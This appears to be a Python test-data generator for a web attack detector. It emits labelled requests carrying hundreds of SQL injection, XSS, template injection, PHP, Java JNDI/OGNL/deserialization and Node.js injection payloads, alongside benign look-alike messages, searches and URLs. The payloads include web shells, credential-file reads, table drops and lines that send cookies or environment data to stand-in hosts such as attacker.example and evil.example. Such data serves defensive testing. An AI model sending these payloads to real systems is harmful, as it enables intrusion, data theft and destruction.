@@ -1,0 +1,526 @@
+"""Second, independent blind set for SQL injection, XSS, server-side template injection, PHP injection, Java
+(JNDI lookups, OGNL, EL/SpEL, Groovy, deserialization) and Node.js (code injection, prototype pollution), with
+benign requests that carry the same words (Slack messages, profile bios, search queries, public URLs, prose).
+
+Written by a different author than the rules and the first blind sets, from general knowledge of each family
+(pentester variations: dialects, grammar, quoting, comments, whitespace substitutes, encodings), without reading
+the other generators' payload lists or any ruleset's regression tests. Each payload goes into three of our input
+places (query, form, JSON, cookie, header), rotating. Same record schema as family_gen.py; deterministic.
+"""
+
+from __future__ import annotations
+
+import json
+import urllib.parse
+from collections.abc import Iterator
+from typing import Any
+
+from .family_gen import UA, _form, _get, _json, _query
+
+SQLI = [
+    # boolean, quoted and numeric contexts
+    "' OR 'x'='x",
+    "admin'--",
+    "1' AND 1=1#",
+    "-1 OR 2>1",
+    "5 or true",
+    "' or ''='",
+    "\" or \"\"=\"",
+    "1') or ('1'='1",
+    "x' AND substring(version(),1,1)='5",
+    "1 AND ascii(substr((select user()),1,1))>64",
+    "' || 1=1 --",
+    "1'and'1'like'1",
+    # union
+    "0 union all select null,null,concat(user,0x3a,password) from mysql.user",
+    "1 UNION/**/SELECT 1,2,table_name FROM information_schema.tables",
+    "')) union select username, password from users--",
+    "-7 /*!50000UNION*/ /*!50000SELECT*/ 1,@@version",
+    "1%0bunion%0bselect%0b1,2",
+    "1 union distinctrow select 1,group_concat(column_name) from information_schema.columns",
+    # time based, by dialect
+    "1' AND SLEEP(5)-- -",
+    "1 and benchmark(5000000,md5(1))",
+    "'; WAITFOR DELAY '0:0:5'--",
+    "1;select pg_sleep(10)--",
+    "1 AND 7=DBMS_PIPE.RECEIVE_MESSAGE('a',5)",
+    "x' AND 1=(SELECT 1 FROM (SELECT SLEEP(3))a)-- ",
+    "1 and randomblob(500000000)",
+    "1) or (select case when (1=1) then pg_sleep(3) else pg_sleep(0) end)--",
+    # error based
+    "1 and extractvalue(1,concat(0x7e,(select database())))",
+    "1' and updatexml(null,concat(0x0a,version()),null)-- ",
+    "1 AND 1=CONVERT(int,@@version)",
+    "' and 1=cast((select current_user) as int)--",
+    "1 and 1=ctxsys.drithsx.sn(1,(select user from dual))",
+    "' AND EXP(~(SELECT * FROM (SELECT USER())x))-- -",
+    # stacked, out of band
+    "1; DROP TABLE sessions;--",
+    "x'; exec master..xp_cmdshell 'ping 10.0.0.1'--",
+    "1; insert into admins(name) values ('eve')--",
+    "'; copy (select '') to program 'curl http://attacker.example/x'--",
+    "1 union select load_file(concat('\\\\\\\\',version(),'.oob.example\\\\a'))",
+    "1 and (select utl_http.request('http://oob.example/'||user) from dual) is not null",
+    "'; declare @q varchar(99); set @q='\\\\oob.example\\x'; exec master.dbo.xp_dirtree @q--",
+    "1 into outfile '/var/www/html/s.php'",
+    # identifier / order by / limit contexts
+    "name,(select case when 1=1 then 1 else 1/0 end)",
+    "id desc, sleep(2)",
+    "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
+    "(CASE WHEN (SELECT 1)=1 THEN created_at ELSE id END)",
+    "if(1=1,sleep(2),0)",
+    # JSON operators, concatenation, SQLite and schema probes
+    "' or data->>'role'='admin",
+    "1' and json_extract('{\"a\":1}','$.a')=1--",
+    "'||(select sqlite_version())||'",
+    "' union select sql from sqlite_master--",
+    "' and (select count(*) from sysobjects)>0--",
+    "'+(select top 1 name from sys.databases)+'",
+    "1 and 1=(select 1 from pg_catalog.pg_tables limit 1)",
+    "admin' oR/**/1=1/*",
+    "1 aNd CHAR(65)=CHAR(65)",
+    "%27%20or%201%3D1--",
+]
+
+XSS = [
+    "<script>alert(document.domain)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=confirm`1`>",
+    "<body onpageshow=alert(1)>",
+    "<details open ontoggle=print()>",
+    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
+    "<iframe src=javascript:alert(1)>",
+    "<a href=\"jAvAsCrIpT:alert(1)\">click</a>",
+    "<a href=\"java&#x09;script:alert(1)\">x</a>",
+    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">y</a>",
+    "<form action=javascript:alert(1)><input type=submit>",
+    "<button formaction=javascript:alert(1)>go</button>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select onchange=alert(1)><option>1</option></select>",
+    "<video><source onerror=\"alert(1)\"></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
+    "<embed src=javascript:alert(1)>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>X</text></a></svg>",
+    "<svg><set attributeName=href to=javascript:alert(1) /></svg>",
+    "\"><script>alert(1)</script>",
+    "' onmouseover='alert(1)",
+    "\" autofocus onfocus=\"alert(1)",
+    "</textarea><script>prompt(1)</script>",
+    "</title><img src=1 onerror=alert(1)>",
+    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
+    "<div style=\"background:url(javascript:alert(1))\">",
+    "<div style=\"width:expression(alert(1))\">",
+    "<style>@import 'http://evil.example/x.css';</style>",
+    "<link rel=stylesheet href=javascript:alert(1)>",
+    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+    "<base href=\"//evil.example/\">",
+    "${alert(1)}</script><script>alert`x`</script>",
+    "`;alert(document.cookie);//",
+    "';alert(String.fromCharCode(88,83,83))//",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+    "&lt;img src=x onerror=alert(1)&gt;",
+    "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">",
+    "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
+    "<img src=x:x onerror=window['al'+'ert'](1)>",
+    "<form id=x><input name=attributes></form>",
+    "<a id=defaultConfig name=defaultConfig href=\"cid:x\"></a>",
+    "<x onclick=alert(1)>click me</x>",
+    "<isindex type=image src=1 onerror=alert(1)>",
+    "<table background=javascript:alert(1)>",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<svg><script>alert&#40;1&#41;</script></svg>",
+    "<img src=x onerror=fetch('//evil.example/?c='+document.cookie)>",
+]
+
+SSTI = [
+    # Jinja2 / Flask
+    "{{7*'7'}}",
+    "{{config.items()}}",
+    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
+    "{{''.__class__.__mro__[1].__subclasses__()}}",
+    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
+    "{{request.application.__globals__.__builtins__.open('/etc/passwd').read()}}",
+    "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}",
+    "{{ lipsum.__globals__['os'].popen('whoami').read() }}",
+    "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
+    "{% import os %}{{ os.system('id') }}",
+    # Twig
+    "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}",
+    "{{['id']|filter('system')}}",
+    "{{['cat /etc/passwd']|map('passthru')|join}}",
+    "{{ app.request.server.all|join(',') }}",
+    # Freemarker
+    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
+    "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",\"id\").start()}",
+    "[#assign x='freemarker.template.utility.Execute'?new()]${x('id')}",
+    "${product.getClass().getProtectionDomain().getCodeSource().getLocation()}",
+    # Velocity
+    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")",
+    "#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))",
+    "#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end",
+    # ERB / Ruby
+    "<%= 7*7 %>",
+    "<%= `id` %>",
+    "<%= system('cat /etc/passwd') %>",
+    "<%= File.open('/etc/passwd').read %>",
+    "<%= IO.popen('id').readlines() %>",
+    "#{7*7}",
+    "#{%x(id)}",
+    # Handlebars / Mustache
+    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{this.pop}}{{/with}}{{/with}}",
+    "{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}",
+    "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
+    # Thymeleaf / Spring
+    "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
+    "[[${T(java.lang.System).getenv()}]]",
+    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
+    "[(${7*7})]",
+    # Pug / Jade, Nunjucks, EJS, doT, Smarty, Tornado, Mako
+    "#{root.process.mainModule.require('child_process').spawnSync('id').stdout}",
+    "- var x = global.process.mainModule.require('child_process').execSync('id')",
+    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
+    "<%- global.process.mainModule.require('child_process').execSync('id') %>",
+    "{{=it.constructor.constructor('return process')()}}",
+    "{php}echo `id`;{/php}",
+    "{system('id')}",
+    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}",
+    "{% import os %}{{os.popen(\"id\").read()}}",
+    "<%import os%>${os.popen('id').read()}",
+    "${self.module.cache.util.os.system('id')}",
+    "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
+    "${{7*7}}",
+    "{{7*7}}[[3*3]]",
+]
+
+PHP = [
+    "<?php system($_REQUEST['cmd']);",
+    "<?php\r\nreadfile('/etc/passwd');",
+    "<?= file_get_contents('/etc/shadow') ?>",
+    "<script language=\"php\">system('id');</script>",
+    "assert('phpinfo()')",
+    "create_function('', 'system(\"id\");')",
+    "preg_replace('/.*/e','system(\"id\")','')",
+    "call_user_func('system','id')",
+    "call_user_func_array('passthru',array('id'))",
+    "array_map('system',array('id'))",
+    "usort($a,'system')",
+    "$f='sys'.'tem';$f('id');",
+    "${@print(md5(1))}",
+    "${${phpinfo()}}",
+    "{${system('id')}}",
+    "$_GET[a]($_GET[b])",
+    "@$_POST['x']($_POST['y'])",
+    "$GLOBALS['_SERVER']['HTTP_X']",
+    "base64_decode('c3lzdGVtKCdpZCcpOw==')",
+    "eval(gzinflate(base64_decode('SyvNS9ZQT8nMS1cvLkksTQYA')))",
+    "eval(str_rot13('flfgrz(\"vq\");'))",
+    "eval(hex2bin('73797374656d28276964272933b'))",
+    "proc_open('id',array(),$p)",
+    "popen('id','r')",
+    "pcntl_exec('/bin/sh',array('-c','id'))",
+    "fsockopen('10.0.0.9',4444)",
+    "file_put_contents('shell.php','<?php eval($_POST[1]);')",
+    "include('http://evil.example/shell.txt')",
+    "require_once $_GET['page'];",
+    "ini_set('allow_url_include','1')",
+    "php://filter/read=string.toupper|convert.base64-encode/resource=config.php",
+    "php://filter/zlib.deflate/resource=/etc/hosts",
+    "php://stdin",
+    "phar://uploads/avatar.png/test.txt",
+    "glob:///var/www/*",
+    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
+    "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
+    "a:1:{i:0;O:15:\"Monolog\\Handler\":1:{s:6:\"socket\";N;}}",
+    "O:+4:\"Evil\":0:{}",
+    "C:11:\"ArrayObject\":37:{x:i:0;a:0:{};m:a:0:{}}",
+    "O:32:\"GuzzleHttp\\Cookie\\FileCookieJar\":1:{s:36:\"\\0GuzzleHttp\\Cookie\\FileCookieJar\\0filename\";s:9:\"shell.php\";}",
+    "unserialize($_COOKIE['data'])",
+    "highlight_file('/var/www/config.php')",
+    "show_source(__FILE__)",
+    "extract($_GET);",
+    "parse_str($_SERVER['QUERY_STRING'])",
+    "mb_ereg_replace('.*','system(\"id\")','x','e')",
+    "$x=new ReflectionFunction('system');$x->invoke('id');",
+]
+
+JAVA = [
+    # JNDI lookups, plain and obfuscated
+    "${jndi:ldap://attacker.example:1389/Exploit}",
+    "${jndi:rmi://10.1.2.3:1099/obj}",
+    "${jndi:dns://oob.example/a}",
+    "${jndi:ldaps://x.example/a}",
+    "${jndi:iiop://x.example/a}",
+    "${jndi:nis://x.example/a}",
+    "${jndi:corba://x.example/a}",
+    "${JnDi:LdAp://x.example/a}",
+    "${${lower:j}ndi:${lower:l}dap://x.example/a}",
+    "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://x.example/a}",
+    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.example/a}",
+    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example/a}",
+    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example/a}",
+    "${j${k8s:k5:-ND}i:ldap://x.example/a}",
+    "${jndi:ldap://${env:USER}.${sys:java.version}.oob.example/a}",
+    "${jndi:ldap://127.0.0.1#evil.example:1389/a}",
+    "%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D",
+    "${${base64:JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0=}}",
+    "${env:AWS_SECRET_ACCESS_KEY}",
+    "${sys:user.home}",
+    "${ctx:loginId}${main:0}",
+    # OGNL (Struts)
+    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm)}",
+    "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
+    "(#cmd='id').(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win')))",
+    "${#_memberAccess[\"allowStaticMethodAccess\"]=true,@java.lang.Runtime@getRuntime().exec('id')}",
+    "%{(#p=new java.lang.ProcessBuilder({'id'})).(#p.redirectErrorStream(true)).(#p.start())}",
+    "redirect:${#req=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletRequest')}",
+    "#{@java.lang.Runtime@getRuntime().exec('calc')}",
+    # SpEL, EL, Groovy
+    "T(java.lang.Runtime).getRuntime().exec('id')",
+    "#{T(java.lang.Runtime).getRuntime().exec(new String[]{'/bin/sh','-c','id'})}",
+    "${T (java.lang.System).getProperty('user.dir')}",
+    "new java.lang.ProcessBuilder('id').start()",
+    "#{''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null)}",
+    "${''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('1')}",
+    "${pageContext.request.getSession().setAttribute('a','b')}",
+    "${applicationScope}",
+    "${facesContext.externalContext.sessionMap}",
+    "#{request.getClass().getClassLoader()}",
+    "''.class.forName('java.lang.Runtime').getRuntime().exec('id')",
+    "\"id\".execute().text",
+    "Class.forName(\"java.lang.Runtime\").getMethod(\"exec\",String.class)",
+    "java.lang.reflect.Method.invoke",
+    "new javax.naming.InitialContext().lookup('ldap://x.example/a')",
+    "@groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec('id')})",
+    # deserialization gadget chains and stream markers
+    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==",
+    "aced0005737200176a6176612e7574696c2e5072696f72697479517565756594",
+    "org.apache.commons.collections.functors.InvokerTransformer",
+    "org.apache.commons.collections4.functors.ChainedTransformer",
+    "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
+    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://x.example/a\",\"autoCommit\":true}",
+    "[\"ch.qos.logback.core.db.JNDIConnectionSource\",{\"jndiLocation\":\"ldap://x.example/a\"}]",
+    "<java.util.PriorityQueue serialization='custom'><unserializable-parents/></java.util.PriorityQueue>",
+    "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface></dynamic-proxy></sorted-set>",
+    "org.springframework.beans.factory.config.PropertyPathFactoryBean",
+    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
+]
+
+NODE = [
+    "require('child_process').exec('id')",
+    "require(\"child_process\").execSync(\"cat /etc/passwd\").toString()",
+    "process.mainModule.require('child_process').spawn('sh',['-c','id'])",
+    "global.process.binding('spawn_sync')",
+    "process.binding('fs')",
+    "module.constructor._load('child_process').exec('id')",
+    "import('child_process').then(m=>m.execSync('id'))",
+    "require('fs').readFileSync('/etc/passwd','utf8')",
+    "require('fs').writeFileSync('/tmp/x','y')",
+    "require('net').connect(4444,'10.0.0.9')",
+    "require('vm').runInNewContext('this.constructor.constructor(\"return process\")()')",
+    "this.constructor.constructor('return process')().exit()",
+    "[].constructor.constructor('return this')().process.env",
+    "Function('return process')().mainModule",
+    "new Function('require','return require(\"os\").userInfo()')",
+    "eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIp','base64').toString())",
+    "setTimeout('process.exit()',0)",
+    "setInterval(\"require('os').hostname()\",1000)",
+    "process.kill(process.pid)",
+    "process.env.NODE_OPTIONS='--require /tmp/x.js'",
+    "res.end(require('fs').readdirSync('.').toString())",
+    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
+    "{\"rce\":\"_$$ND_FUNC$$_function (){return 1}()\"}",
+    "String.fromCharCode(114,101,113,117,105,114,101)",
+    "globalThis.process.dlopen",
+    "Reflect.construct(Function,['return process'])()",
+    "while(1){}",
+    "Object.prototype.polluted=1",
+    "({}).__proto__.isAdmin=true",
+    "Object.assign(Object.prototype,{shell:'/bin/sh'})",
+    "x.__defineGetter__('toString',function(){return process})",
+    "require('http').get('http://oob.example/'+process.env.HOME)",
+]
+
+# Prototype pollution through query keys and JSON documents (whole-request placements).
+POLLUTION_QUERIES = [
+    "__proto__[admin]=1",
+    "__proto__.isAdmin=true",
+    "constructor[prototype][role]=admin",
+    "a[__proto__][b]=c",
+    "user[constructor][prototype][x]=1",
+    "%5F%5Fproto%5F%5F%5Btoken%5D=1",
+    "constructor.prototype.shell=node",
+    "q=1&__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');x",
+]
+POLLUTION_JSON: list[Any] = [
+    {"__proto__": {"isAdmin": True}},
+    {"user": {"__proto__": {"role": "admin"}}},
+    {"constructor": {"prototype": {"polluted": "yes"}}},
+    {"settings": {"constructor": {"prototype": {"shell": "/proc/self/exe",
+                                                "NODE_OPTIONS": "--require /proc/self/environ"}}}},
+    {"name": "x",
+     "__proto__": {"outputFunctionName": "a;process.mainModule.require('child_process').execSync('id');//"}},
+    [{"__proto__": {"toString": 1}}],
+]
+
+FAMILIES = {"sqli": SQLI, "xss": XSS, "ssti": SSTI, "php": PHP, "java": JAVA, "nodejs": NODE}
+PLACES = ["query", "form", "json", "cookie", "header"]
+PARAMS = ["q", "id", "sort", "name", "comment", "template", "filter", "data", "message", "order"]
+
+
+def _cookie(value: str) -> dict[str, Any]:
+    return {**_get("/api/users?page=1"), "headers": {"User-Agent": UA, "Accept": "application/json",
+                                                       "Cookie": "session=abc123; prefs=" + urllib.parse.quote(value)}}
+
+
+def _header(value: str) -> dict[str, Any]:
+    return {**_get("/api/users?page=1"), "headers": {"User-Agent": UA, "Accept": "application/json",
+                                                       "X-Api-Version": value.replace("\r", " ").replace("\n", " ")}}
+
+
+def _place(place: str, name: str, value: str) -> dict[str, Any]:
+    if place == "query":
+        return _get(_query("/api/users", [(name, value), ("page", "1")]))
+    if place == "form":
+        return _form("/admin/users/search", [("csrf_token", "t0k3n"), (name, value)])
+    if place == "json":
+        return _json("/api/users", {"email": "a@example.org", name: value})
+    if place == "cookie":
+        return _cookie(value)
+    return _header(value)
+
+
+def attacks() -> Iterator[dict[str, Any]]:
+    n = 0
+    for family, payloads in FAMILIES.items():
+        for i, p in enumerate(payloads):
+            for k in range(3):
+                place = PLACES[(i + k) % len(PLACES)]
+                n += 1
+                yield {**_place(place, PARAMS[(i + k) % len(PARAMS)], p), "id": f"mix-{family}-{n:04d}",
+                       "category": family, "sub": family, "placement": place, "payload": p}
+    for i, qs in enumerate(POLLUTION_QUERIES):
+        for k, path in enumerate(("/api/users?", "/api/users?page=2&")):
+            yield {**_get(path + qs), "id": f"mix-nodejs-pq{i}-{k}", "category": "nodejs", "sub": "pollution",
+                   "placement": "query", "payload": qs}
+    for i, doc in enumerate(POLLUTION_JSON):
+        for k, uri in enumerate(("/api/users", "/api/users/42")):
+            yield {**_json(uri, doc), "id": f"mix-nodejs-pj{i}-{k}", "category": "nodejs", "sub": "pollution",
+                   "placement": "json", "payload": json.dumps(doc)}
+
+
+# Benign: people talking about the same things, in chat, bios, searches and public links.
+SLACK_TEXTS = [
+    "select a plan from the list and click continue",
+    "I <3 this new dashboard, thanks team!",
+    "use ${HOME} in the script instead of hardcoding /home/ann",
+    "Java's Runtime class is what we use for the health check, don't touch it",
+    "Tim O'Reilly's talk was great; order by Friday if you want the book",
+    "1=1 meeting moved to 3pm, room 'Orion'",
+    "can someone drop the table of contents from the wiki page? it's outdated",
+    "the union of both lists should be deduplicated before we insert into the CRM",
+    "delete from my calendar anything after 6pm please :)",
+    "Our SLA: 99.9% uptime, <5 min response; see the 'Support' tab",
+    "use {{ user.name }} in the email template, not {{user.first_name}}",
+    "the Jinja template has a {% for item in items %} loop that's slow",
+    "in ERB you write <%= @user.name %> and it escapes by default",
+    "JNDI is deprecated in our stack, we moved to env vars",
+    "log4j 2.17.1 is what we ship, CVE fixed",
+    "process.env.PORT defaults to 3000 in dev",
+    "run npm install && npm test before pushing",
+    "the child process exits with code 1 when the config is missing",
+    "Node's require() cache bit us again in the tests",
+    "PHP's echo vs print debate again lol",
+    "the script tag in the footer loads analytics, consent first",
+    "onload of the page we fetch /api/me",
+    "alert: disk usage above 90% on db-2",
+    "I wrote <b>bold</b> in the bio and it shows literally, expected?",
+    "prototype for the new onboarding is in Figma",
+    "the constructor takes a config object; see the README",
+    "sleep(5) in the test is flaky, use a fake clock",
+    "We're hiring a Java/Spring developer (Spring Boot, Thymeleaf, JPA)",
+    "Mention @here if the build breaks; Thanks!",
+    "Where's the 'Sales & Marketing' folder? I can't find it",
+    "version 2.1 -- released today; changelog in the drive",
+    "if (a > b && c < d) return; // from the code review",
+    "cost = price * 7 * 7 / 100 (don't ask)",
+    "exec summary: Q3 revenue up 12%",
+    "the system is down for maintenance between 2 and 4 am",
+    "Hey! Are we still on for lunch? I'm thinking tacos 🌮",
+]
+
+SEARCHES = [
+    "select", "union station", "O'Reilly", "drop shipping", "rock & roll", "java script tutorial",
+    "mysql vs postgres", "how to sleep better", "C# or Java?", "<3", "shirt size: M/L", "1=1",
+    "order by price", "template literals in js", "what is ${} in bash", "print statements",
+    "Smith & Wesson", "null pointer exception", "'quoted' word", "a-b testing",
+]
+
+PUBLIC_URLS = [
+    "https://docs.python.org/3/library/string.html#template-strings",
+    "https://jinja.palletsprojects.com/en/3.1.x/templates/",
+    "https://www.postgresql.org/docs/current/functions-json.html",
+    "https://dev.mysql.com/doc/refman/8.0/en/union.html",
+    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
+    "https://nodejs.org/api/child_process.html",
+    "https://logging.apache.org/log4j/2.x/manual/lookups.html",
+    "https://www.php.net/manual/en/function.include.php",
+    "https://github.com/search?q=select+from+where&type=code",
+    "https://example.com/shop?sort=price&order=asc",
+]
+
+PROSE = [
+    "Please select one of the options below and submit the form.",
+    "The union representatives will meet the board on Tuesday.",
+    "Drop me a line when the order is delivered.",
+    "Wait for the delay to pass, then insert the card.",
+    "She said 'hello' and left; the door was open.",
+    "I'd like to update my profile: new address is 12 Main St., Apt 4.",
+    "The script of the play was rewritten by the director.",
+    "Java and Python are both object-oriented languages.",
+    "Our template for the newsletter uses the company colours.",
+    "Please contact support if the system doesn't respond within 5 minutes.",
+]
+
+
+def benign() -> Iterator[dict[str, Any]]:
+    n = 0
+    for text in SLACK_TEXTS:
+        n += 1
+        event = {"type": "message", "user": "U012345678", "text": text, "ts": f"1719000{n:03d}.000100",
+                 "channel": "C0123456789", "event_ts": f"1719000{n:03d}.000100"}
+        body = {"token": "verification-token", "team_id": "T061EG9R6", "api_app_id": "A0PNCHHK2",
+                "event": event, "type": "event_callback", "event_id": f"Ev{n:09d}", "event_time": 1719000000 + n}
+        yield {"method": "POST", "uri": "/slack/events", "body": json.dumps(body, ensure_ascii=False),
+               "headers": {"User-Agent": "Slackbot 1.0 (+https://api.slack.com/robots)",
+                           "Content-Type": "application/json", "X-Slack-Request-Timestamp": "1719000000",
+                           "X-Slack-Signature": "v0=" + "0" * 64},
+               "id": f"mixben-slack-{n:04d}", "category": "benign", "placement": "json"}
+        n += 1
+        yield {**_json("/api/users", {"name": "Ann", "bio": text}), "id": f"mixben-bio-{n:04d}",
+               "category": "benign", "placement": "json"}
+    for text in SEARCHES:
+        n += 1
+        yield {**_get(_query("/api/users", [("q", text), ("page", "1")])), "id": f"mixben-search-{n:04d}",
+               "category": "benign", "placement": "query"}
+    for url in PUBLIC_URLS:
+        for rec in (_json("/api/users", {"name": "Ann", "website": url, "avatar_url": url}),
+                    _get(_query("/api/users", [("q", "ann"), ("ref", url)]))):
+            n += 1
+            yield {**rec, "id": f"mixben-url-{n:04d}", "category": "benign", "placement": "mixed"}
+    for text in PROSE:
+        n += 1
+        yield {**_form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", text)]),
+               "id": f"mixben-prose-{n:04d}", "category": "benign", "placement": "form"}
+
+
+if __name__ == "__main__":
+    for record in [*attacks(), *benign()]:
+        print(json.dumps(record, ensure_ascii=False))
